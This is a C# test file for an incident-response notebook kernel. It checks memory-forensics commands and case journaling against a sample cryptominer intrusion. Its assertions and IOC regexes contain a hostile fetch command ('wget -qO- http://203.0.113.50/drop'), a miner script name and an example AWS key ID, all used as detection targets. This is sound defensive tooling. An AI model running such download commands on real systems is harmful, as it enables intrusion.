using EksIr.Core.Cases;
using Microsoft.DotNet.Interactive;

namespace EksIr.Kernel.Tests.Memory;

/// <summary>The memory phase's magic commands on the training incident's evidence, inside a case.</summary>
public sealed class MemoryDirectivesTests : IDisposable
{
    private readonly TempDir _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task Lime_pstree_maps_and_ioc_run_on_the_sample_incident_and_are_journaled()
    {
        var before = EvidenceTree.Hash(Repo.Path("sample-data", "incident-1"));
        using var kernel = await KernelFixture.CreateAsync();
        var journal = _temp.Combine("case", "journal.jsonl");
        (await kernel.SubmitCodeAsync($"#!case open --name INC-7 --evidence \"{Repo.Path("sample-data", "incident-1")}\" --journal \"{journal}\"")).ShouldSucceed();

        var lime = await kernel.SubmitCodeAsync("#!lime memory/ip-192-168-23-107.lime");
        var tree = await kernel.SubmitCodeAsync("#!pstree memory/volatility --node node/ip-192-168-23-107.us-west-2.compute.internal.tar.gz");
        var maps = await kernel.SubmitCodeAsync("#!maps memory/maps/linux.proc.Maps.txt --pid 5310");
        var ioc = await kernel.SubmitCodeAsync("#!ioc memory/ip-192-168-23-107.lime --string miner.sh --regex \"wget [^\\x00]+|sysdiag\"");

        lime.ShouldSucceed();
        Assert.Contains("sha256 matches memory/ip-192-168-23-107.lime.sha256", lime.SingleDisplayedHtml());
        tree.ShouldSucceed();
        var html = tree.SingleDisplayedHtml();
        Assert.Contains("<details open", html);
        Assert.Contains("pod default/sysdiag: sysdiag (8e1f2a3b4c5d)", html);
        Assert.Contains("user-space process named like a kernel thread", html);
        // pslist's columns: Volatility's "2026-11-29 06:23:58.702000 UTC", shown in the one time format (RFC 3339, UTC).
        Assert.Contains("<b>5120</b> sh <span style=\"color:#6a737d\">(uid 0, started 2026-11-29T06:23:58.702Z)</span>", html);
        Assert.Contains("2026-11-29T06:23:58.702Z</td>", html); // and in the flagged table
        maps.ShouldSucceed();
        Assert.Contains("writable and executable; anonymous executable memory", maps.SingleDisplayedText());
        Assert.Contains("linux.proc.Maps --pid 5310 --dump", maps.SingleDisplayedText());
        ioc.ShouldSucceed();
        var hits = ioc.SingleDisplayedText();
        Assert.Contains("AKIA5DEVINTERN7EXMPL", hits);
        Assert.Contains("miner.sh", hits);
        Assert.Contains("sysdiag", hits);
        Assert.Contains("wget -qO- http://203.0.113.50/drop", hits);

        var entries = new CaseJournal(journal).Read().Entries;
        Assert.Equal(["lime", "pstree", "maps", "ioc"], entries.Skip(1).Select(e => e.Verb));
        Assert.Contains(entries[1].EvidenceRead, r => r.Path == "memory/ip-192-168-23-107.lime" && r.Sha256 is not null);
        Assert.Contains(entries[2].EvidenceRead, r => r.Path == "memory/volatility/linux.psaux.txt");
        Assert.Contains(entries[2].EvidenceRead, r => r.Path == "node/ip-192-168-23-107.us-west-2.compute.internal.tar.gz");
        Assert.Equal("miner.sh", entries[4].Options["--string"]);
        Assert.Equal(before, EvidenceTree.Hash(Repo.Path("sample-data", "incident-1"))); // the evidence, byte for byte and no new files
    }

    [Fact]
    public async Task Ioc_in_a_cell_keeps_each_regex_whole_with_its_commas_takes_several_as_a_json_array_and_refuses_a_repeat()
    {
        using var kernel = await KernelFixture.CreateAsync();
        var journal = _temp.Combine("case", "journal.jsonl");
        (await kernel.SubmitCodeAsync($"#!case open --name INC-7 --evidence \"{Repo.Path("sample-data", "incident-1")}\" --journal \"{journal}\"")).ShouldSucceed();

        var one = await kernel.SubmitCodeAsync("#!ioc memory/ip-192-168-23-107.lime --regex \"wget -qO- [a-z]{1,8}://203\"");
        var several = await kernel.SubmitCodeAsync("#!ioc memory/ip-192-168-23-107.lime --regex [\"wget -qO- [a-z]{1,8}://203\", \"miner[.]s[h,]\"]");
        var repeated = await kernel.SubmitCodeAsync("#!ioc memory/ip-192-168-23-107.lime --regex abc --regex def");

        one.ShouldSucceed();
        Assert.Matches(@"regex 1 +wget -qO- http://203 ", one.SingleDisplayedText());
        several.ShouldSucceed();
        Assert.Matches(@"regex 1 +wget -qO- http://203 ", several.SingleDisplayedText());
        Assert.Matches(@"regex 2 +miner\.sh ", several.SingleDisplayedText());
        // .NET Interactive does not bind a parameter given twice: refused, never dropped silently.
        Assert.Contains("A maximum of 1 occurrences are allowed for named parameter '--regex'", Assert.Single(repeated.Events.OfType<Microsoft.DotNet.Interactive.Events.CommandFailed>()).Message);
        var entries = new CaseJournal(journal).Read().Entries;
        Assert.Equal(["wget -qO- [a-z]{1,8}://203", "wget -qO- [a-z]{1,8}://203\nminer[.]s[h,]"], entries.Skip(1).Select(e => e.Options["--regex"]));
    }
}
